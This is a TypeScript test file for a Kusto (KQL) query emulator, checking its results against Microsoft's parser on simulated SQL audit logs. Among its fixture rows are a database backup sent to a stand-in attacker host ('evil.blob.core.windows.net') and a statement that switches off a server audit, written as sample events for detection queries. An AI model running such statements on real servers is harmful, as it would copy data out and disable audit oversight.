import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { executeQuery } from "../../emulator/kusto/execute.js";
import { KqlError } from "../../emulator/kusto/lexer.js";
import { INGESTION_TIME } from "../../emulator/kusto/ast.js";
import type { Row } from "../../emulator/kusto/ast.js";
import { TABLE_COLUMNS } from "../../emulator/kusto/tables.js";
import { checkKql } from "../support/kusto-parser.js";
import type { KqlSchema } from "../support/kusto-parser.js";

// The KQL the lead's activity sweep needs, each as the Kusto documentation defines it (page titles cited at each
// case), and every query held to Microsoft's own parser (@kusto/language-service-next): a query the emulator
// accepts is valid KQL for the same tables, and the emulator's result columns (names and types) are the ones the
// parser computes; a misspelt name the emulator refuses, the parser refuses too.
const NOW = new Date("2026-11-24T12:00:00Z");
const at = (iso: string) => new Date(iso);
const ingested = (row: Row, iso: string): Row => ({ ...row, [INGESTION_TIME]: at(iso) });

const diagnostics: Row[] = [
  ingested({ TimeGenerated: at("2026-11-24T11:50:00Z"), Category: "SQLSecurityAuditEvents", action_id_s: "BA", statement_s: "BACKUP DATABASE [sales] TO URL = N'https://evil.blob.core.windows.net/c/s.bak' WITH COPY_ONLY", server_principal_name_s: "mallory", client_ip_s: "10.0.0.9", _ResourceId: "/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-1", session_id_d: 3 }, "2026-11-24T11:50:04Z"),
  ingested({ TimeGenerated: at("2026-11-24T11:00:00Z"), Category: "SQLSecurityAuditEvents", action_id_s: "RS", statement_s: "  RESTORE DATABASE [hr] FROM URL = 'https://corp.blob.core.windows.net/c/h.bak'  ", server_principal_name_s: "dba", client_ip_s: "", _ResourceId: "/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-1", session_id_d: 5 }, "2026-11-24T11:00:03Z"),
  ingested({ TimeGenerated: at("2026-11-23T09:00:00Z"), Category: "SQLSecurityAuditEvents", action_id_s: "AUSC", statement_s: "ALTER SERVER AUDIT [A] WITH (STATE = OFF)", server_principal_name_s: "Mallory", client_ip_s: "10.0.0.7", _ResourceId: "/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-2", session_id_d: 7 }, "2026-11-23T09:00:02Z"),
];
const dedicated: Row[] = [
  ingested({ TimeGenerated: at("2026-11-24T11:55:00Z"), ActionId: "BA", Statement: "BACKUP DATABASE [db] TO URL = 'https://x.blob.core.windows.net/c/db.bak' WITH COPY_ONLY", ServerPrincipalName: "eve", ClientIp: "10.1.1.1", _ResourceId: "/subscriptions/s/resourcegroups/rg/providers/microsoft.synapse/workspaces/syn" }, "2026-11-24T11:55:09Z"),
];
const tables = new Map([
  ["AzureDiagnostics", diagnostics],
  ["SQLSecurityAuditEvents", dedicated],
]);

const schema: KqlSchema = Object.fromEntries(
  ["AzureDiagnostics", "SQLSecurityAuditEvents"].map((t) => [t, Object.fromEntries(TABLE_COLUMNS[t]!.map((c) => [c.name, c.type]))]),
);

const run = (text: string) => executeQuery(text, tables, NOW);
const values = (text: string, column?: string) => {
  const result = run(text);
  const name = column ?? result.columns.at(-1)!.name;
  return result.rows.map((r) => {
    const v = r[name];
    return v instanceof Date ? v.toISOString() : v;
  });
};

/** Runs the query on the emulator and on Microsoft's analyser: both accept it and agree on the result columns. */
function agreed(text: string) {
  const microsoft = checkKql(text, schema);
  assert.deepEqual(microsoft.errors, [], `Microsoft's parser refuses: ${text}`);
  const result = run(text);
  assert.deepEqual(result.columns.map((c) => `${c.name}:${c.type}`), microsoft.columns.map((c) => `${c.name}:${c.type}`), text);
  return result;
}

describe("aggregation default column names (summarize operator)", () => {
  it("count() is count_, also with by, beside the group keys", () => {
    assert.deepEqual(agreed("AzureDiagnostics | summarize count()").rows, [{ count_: 3 }]);
    const byResource = agreed("AzureDiagnostics | summarize count() by _ResourceId | order by _ResourceId asc");
    assert.deepEqual(byResource.rows.map((r) => r.count_), [2, 1]);
  });

  it("countif_, max_X, min_X, dcount_X, sum_X, avg_X, any_X, a second count() is count_1", () => {
    const result = agreed(`AzureDiagnostics | summarize countif(action_id_s == "BA"), max(TimeGenerated), min(session_id_d), dcount(server_principal_name_s), sum(session_id_d), avg(session_id_d), any(Category), count(), count()`);
    assert.deepEqual(result.rows[0], {
      countif_: 1,
      max_TimeGenerated: at("2026-11-24T11:50:00Z"),
      min_session_id_d: 3,
      dcount_server_principal_name_s: 3,
      sum_session_id_d: 15,
      avg_session_id_d: 5,
      any_Category: "SQLSecurityAuditEvents",
      count_: 3,
      count_1: 3,
    });
  });

  it("max() and min() over no rows are null and keep their argument's type", () => {
    const result = agreed(`AzureDiagnostics | where action_id_s == "none" | summarize max(TimeGenerated), min(session_id_d), count()`);
    assert.deepEqual(result.rows, [{ max_TimeGenerated: null, min_session_id_d: null, count_: 0 }]);
  });

  it("arg_max(col, *) by x returns the newest row of each group, every other column beside it (arg_max() page)", () => {
    const result = agreed("AzureDiagnostics | summarize arg_max(TimeGenerated, *) by _ResourceId | order by _ResourceId asc");
    assert.deepEqual(result.rows.map((r) => [r._ResourceId, r.action_id_s]), [["/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-1", "BA"], ["/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-2", "AUSC"]]);
    const named = agreed("AzureDiagnostics | summarize arg_min(TimeGenerated, action_id_s, client_ip_s) by Category");
    assert.deepEqual(named.rows, [{ Category: "SQLSecurityAuditEvents", TimeGenerated: at("2026-11-23T09:00:00Z"), action_id_s: "AUSC", client_ip_s: "10.0.0.7" }]);
  });

  it("a group key computed with bin() keeps its column's name", () => {
    assert.deepEqual(values("AzureDiagnostics | summarize count() by bin(TimeGenerated, 1d) | order by TimeGenerated asc", "TimeGenerated"), ["2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z"]);
    agreed("AzureDiagnostics | summarize count() by bin(TimeGenerated, 1d)");
  });
});

describe("names resolve against the schema, not the rows", () => {
  const misspelt = [
    "AzureDiagnostics | where action_id_s == 'none' | order by TimeGenrated desc",
    "AzureDiagnostics | where action_id_s == 'none' | top 5 by TimeGenrated",
    "AzureDiagnostics | where action_id_s == 'none' | project TimeGenrated",
    "AzureDiagnostics | where acton_id_s == 'BA'",
    "AzureDiagnostics | take 0 | extend x = tolower(statment_s)",
    "AzureDiagnostics | take 0 | summarize max(TimeGenrated)",
    "AzureDiagnostics | take 0 | summarize count() by Catgory",
    "SQLSecurityAuditEvents | where action_id_s == 'BA'",
  ];
  for (const text of misspelt) {
    it(`refused with no rows in play, as Microsoft's parser refuses it: ${text}`, () => {
      assert.notDeepEqual(checkKql(text, schema).errors, [], "Microsoft's parser accepts it");
      assert.throws(() => run(text), (e: unknown) => e instanceof KqlError && e.code === "SemanticError");
      assert.throws(() => executeQuery(text, new Map(), NOW), (e: unknown) => e instanceof KqlError && e.code === "SemanticError", "also on an empty workspace");
    });
  }

  it("a type error is refused before any row is read (The operator '>' is not defined for datetime and string)", () => {
    const text = "AzureDiagnostics | where TimeGenerated > '2026-11-24'";
    assert.notDeepEqual(checkKql(text, schema).errors, []);
    assert.throws(() => executeQuery(text, new Map(), NOW), (e: unknown) => e instanceof KqlError && e.code === "SemanticError");
  });
});

describe("union (union operator)", () => {
  it("isfuzzy=true over both audit tables: one schema, rows of both, absent tables ignored", () => {
    const result = agreed("union isfuzzy=true AzureDiagnostics, SQLSecurityAuditEvents | where TimeGenerated > ago(1h) | project TimeGenerated, _ResourceId | order by TimeGenerated asc");
    assert.deepEqual(result.rows.map((r) => (r.TimeGenerated as Date).toISOString()), ["2026-11-24T11:50:00.000Z", "2026-11-24T11:55:00.000Z"]);
    const fuzzy = "union isfuzzy=true AzureDiagnostics, NoSuchTable | count";
    assert.deepEqual(checkKql(fuzzy, schema).errors, []);
    assert.deepEqual(values(fuzzy), [3]);
    assert.notDeepEqual(checkKql("union AzureDiagnostics, NoSuchTable", schema).errors, []);
    assert.throws(() => run("union AzureDiagnostics, NoSuchTable"), (e: unknown) => e instanceof KqlError && e.code === "SemanticError");
  });

  it("parenthesised legs, a column of different types per leg becomes name_type, and the `| union` form", () => {
    const legs = agreed(`union (AzureDiagnostics | where action_id_s == "BA" | project TimeGenerated, who = server_principal_name_s, n = session_id_d), (SQLSecurityAuditEvents | project TimeGenerated, who = ServerPrincipalName, n = "x")`);
    assert.deepEqual(legs.columns.map((c) => c.name), ["TimeGenerated", "who", "n_real", "n_string"]);
    assert.deepEqual(legs.rows.map((r) => [r.who, r.n_real ?? null, r.n_string ?? null]), [["mallory", 3, null], ["eve", null, "x"]]);
    assert.deepEqual(values("AzureDiagnostics | union SQLSecurityAuditEvents | count"), [4]);
    agreed("AzureDiagnostics | union SQLSecurityAuditEvents | count");
  });

  it("withsource= names the table each row came from", () => {
    const result = agreed("union withsource=SourceTable AzureDiagnostics, SQLSecurityAuditEvents | summarize count() by SourceTable | order by SourceTable asc");
    assert.deepEqual(result.rows, [{ SourceTable: "AzureDiagnostics", count_: 3 }, { SourceTable: "SQLSecurityAuditEvents", count_: 1 }]);
  });
});

describe("ingestion_time() (ingestion_time() page)", () => {
  it("returns each row's ingestion time, through where, extend, project and union", () => {
    const result = agreed("union isfuzzy=true AzureDiagnostics, SQLSecurityAuditEvents | where ingestion_time() > datetime(2026-11-24T11:50:00Z) | extend it = ingestion_time() | project it, TimeGenerated | order by it asc");
    assert.deepEqual(result.rows.map((r) => (r.it as Date).toISOString()), ["2026-11-24T11:50:04.000Z", "2026-11-24T11:55:09.000Z"]);
    assert.deepEqual(values("AzureDiagnostics | project TimeGenerated | extend it = ingestion_time() | top 1 by it"), ["2026-11-24T11:50:04.000Z"]);
  });

  it("is null once rows are aggregated", () => {
    assert.deepEqual(agreed("AzureDiagnostics | summarize count() | extend it = ingestion_time()").rows, [{ count_: 3, it: null }]);
  });
});

describe("operators and functions (each as its Kusto documentation page defines it)", () => {
  const cases: Array<[string, string, unknown[]]> = [
    ["in (\"in operator\")", `AzureDiagnostics | where action_id_s in ("BA", "RS") | project action_id_s`, ["BA", "RS"]],
    ["in~ is case-insensitive", `AzureDiagnostics | where action_id_s in~ ("ba", "ausc") | project action_id_s`, ["BA", "AUSC"]],
    ["!in", `AzureDiagnostics | where action_id_s !in ("BA", "RS") | project action_id_s`, ["AUSC"]],
    ["!in~", `AzureDiagnostics | where action_id_s !in~ ("ba", "rs") | project action_id_s`, ["AUSC"]],
    ["has matches whole terms (\"has operator\")", `AzureDiagnostics | where statement_s has "copy_only" | project action_id_s`, ["BA"]],
    ["contains matches substrings", `AzureDiagnostics | where statement_s contains "STOR" | project action_id_s`, ["RS"]],
    ["startswith", `AzureDiagnostics | where statement_s startswith "backup" | project action_id_s`, ["BA"]],
    ["=~ and !~", `AzureDiagnostics | where server_principal_name_s =~ "MALLORY" and action_id_s !~ "ba" | project action_id_s`, ["AUSC"]],
    ["and / or / not()", `AzureDiagnostics | where (action_id_s == "BA" or action_id_s == "AUSC") and not(server_principal_name_s == "Mallory") | project action_id_s`, ["BA"]],
    ["trim() (\"trim()\")", `AzureDiagnostics | where action_id_s == "RS" | project s = trim(" ", statement_s)`, ["RESTORE DATABASE [hr] FROM URL = 'https://corp.blob.core.windows.net/c/h.bak'"]],
    ["extract() with a capture group (\"extract()\")", `AzureDiagnostics | project account = extract("https://([a-z0-9]+)\\\\.blob", 1, statement_s)`, ["evil", "corp", ""]],
    ["tostring() of a number", `AzureDiagnostics | where action_id_s == "BA" | project s = tostring(session_id_d)`, ["3"]],
    ["todatetime() of text", `AzureDiagnostics | take 1 | project d = todatetime("2026-11-24T10:00:00Z")`, ["2026-11-24T10:00:00.000Z"]],
    ["isempty() / isnotempty()", `AzureDiagnostics | where isempty(client_ip_s) | project action_id_s`, ["RS"]],
    ["isnotempty()", `AzureDiagnostics | where isnotempty(client_ip_s) | count`, [2]],
    ["strcat()", `AzureDiagnostics | where action_id_s == "BA" | project s = strcat(action_id_s, ":", server_principal_name_s)`, ["BA:mallory"]],
    ["coalesce() skips empty strings (\"coalesce()\")", `AzureDiagnostics | project ip = coalesce(client_ip_s, "unknown")`, ["10.0.0.9", "unknown", "10.0.0.7"]],
    ["iff()", `AzureDiagnostics | project what = iff(action_id_s == "BA", "backup", "other")`, ["backup", "other", "other"]],
    ["datetime() literal and between (\"between operator\")", `AzureDiagnostics | where TimeGenerated between (datetime(2026-11-24T10:00:00Z) .. datetime(2026-11-24T12:00:00Z)) | count`, [2]],
    ["between a datetime and a timespan", `AzureDiagnostics | where TimeGenerated between (datetime(2026-11-24T10:30:00Z) .. 1h) | project action_id_s`, ["RS"]],
    ["ago()", `AzureDiagnostics | where TimeGenerated > ago(1h) | project action_id_s`, ["BA"]],
    ["extend", `AzureDiagnostics | extend who = toupper(server_principal_name_s) | where action_id_s == "RS" | project who`, ["DBA"]],
    ["project-away", `AzureDiagnostics | project-away statement_s, client_ip_s | where action_id_s == "BA" | project action_id_s`, ["BA"]],
    ["order by several keys asc/desc", `AzureDiagnostics | order by Category asc, TimeGenerated desc | project action_id_s`, ["BA", "RS", "AUSC"]],
    ["order by defaults to desc", `AzureDiagnostics | order by session_id_d | project session_id_d`, [7, 5, 3]],
    ["take / limit", `AzureDiagnostics | order by session_id_d asc | take 2 | limit 1 | project session_id_d`, [3]],
    ["top N by", `AzureDiagnostics | top 2 by TimeGenerated asc | project action_id_s`, ["AUSC", "RS"]],
    ["count", `AzureDiagnostics | where action_id_s == "BA" | count`, [1]],
    ["distinct", `AzureDiagnostics | distinct _ResourceId | count`, [2]],
  ];
  for (const [name, text, expected] of cases) {
    it(name, () => {
      agreed(text);
      assert.deepEqual(values(text), expected);
    });
  }
});

describe("the support parser itself", () => {
  it("reports syntax errors without a schema and semantic ones with it", () => {
    assert.notDeepEqual(checkKql("AzureDiagnostics | where (x == 1").errors, []);
    assert.deepEqual(checkKql("AzureDiagnostics | where nope == 1").errors, [], "without tables, names are not checked");
    assert.equal(checkKql("AzureDiagnostics | where nope == 1", schema).errors[0]?.code, "KS142");
  });
});
